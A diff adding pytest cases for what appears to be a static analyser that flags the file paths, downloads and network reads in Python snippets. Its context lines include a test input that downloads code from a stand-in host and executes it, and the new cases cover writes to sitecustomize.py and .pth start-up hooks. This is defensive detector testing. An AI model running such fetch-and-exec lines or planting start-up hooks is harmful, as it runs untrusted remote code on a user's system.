@@ -99,3 +99,51 @@ def test_downloads_are_named():
     result = reading("import urllib.request as u; u.urlretrieve('http://x.test/i.sh', 'i.sh')")
     assert result.downloads == ["/p/i.sh"]
     assert reading("import urllib.request as u; exec(u.urlopen('http://x.test').read())").runs_download
+
+
+@pytest.mark.parametrize("code, path, access", [
+    ("df.to_csv('sitecustomize.py')", "/p/sitecustomize.py", "write"),
+    ("import pandas as pd; pd.DataFrame.to_csv(df, 'x.pth')", "/p/x.pth", "write"),
+    ("import pandas as pd; pd.to_pickle(df, path='x.pth')", "/p/x.pth", "write"),
+    ("import numpy as np; np.memmap('m.bin', dtype='u1', mode='r')", "/p/m.bin", "read"),
+    ("import numpy as np; np.memmap('m.bin')", "/p/m.bin", "write"),
+    ("import gzip; gzip.open('a.gz')", "/p/a.gz", "read"),
+    ("import shutil; shutil.make_archive('out', 'gztar', 'src')", "/p/out.tar.gz", "write"),
+    ("import shutil; shutil.make_archive('out', 'zip', 'src')", "/p/src", "tree"),
+    ("import shutil; shutil.make_archive('out', 'zip')", "/p", "tree"),
+    ("import shutil; shutil.make_archive('out', 'zip', root_dir='/srv', base_dir='data')", "/srv/data", "tree"),
+    ("import tempfile; tempfile.mkstemp('.pth', 'x', 'lib')", "/p/lib/xXXXXXXXX.pth", "write"),
+    ("import logging; logging.basicConfig(filename='a.pth')", "/p/a.pth", "write"),
+    ("from pathlib import Path; Path('a').rename('b.pth')", "/p/b.pth", "write"),
+    ("from pathlib import Path; Path('a.txt').open('a')", "/p/a.txt", "write"),
+])
+def test_the_file_table_finds_what_each_call_reaches(code, path, access):
+    assert (path, access) in [(p.path, p.access) for p in reading(code).paths], reading(code).paths
+
+
+@pytest.mark.parametrize("code", [
+    "import io; buf = io.StringIO(); df.to_csv(buf)",
+    "with open('a.csv', 'w') as f:\n    df.to_csv(f)",
+    "import sys; df.to_csv(sys.stdout)",
+    "import matplotlib.pyplot as plt\nfor c in 'ab':\n    plt.savefig(f'{c}.png')",
+    "df.to_parquet(name + '.parquet')",
+    "import pandas as pd; pd.read_csv(path)",
+    "import tempfile; tempfile.NamedTemporaryFile(suffix='.pth')",
+    "df.to_csv()", "'a b'.replace('a', 'c')",
+])
+def test_a_file_object_or_a_data_name_is_no_unknown_path(code):
+    assert not reading(code).unresolved, reading(code).unresolved
+
+
+@pytest.mark.parametrize("code", [
+    "df.to_csv(name)", "import matplotlib.pyplot as plt\nplt.savefig(f'{c}.py')", "arr.tofile(x + '.pth')",
+    "import shutil; shutil.make_archive('o', 'zip', root)", "import tempfile; tempfile.mkstemp(dir=d)",
+    "f = open('a')\nf = name\ndf.to_csv(f)",
+])
+def test_a_write_to_a_computed_name_is_unresolved(code):
+    assert reading(code).unresolved, code
+
+
+def test_a_url_read_by_a_data_library_is_the_network_not_a_path():
+    found = reading("import pandas as pd; pd.read_csv('https://x.test/a.csv')")
+    assert found.network and not found.paths
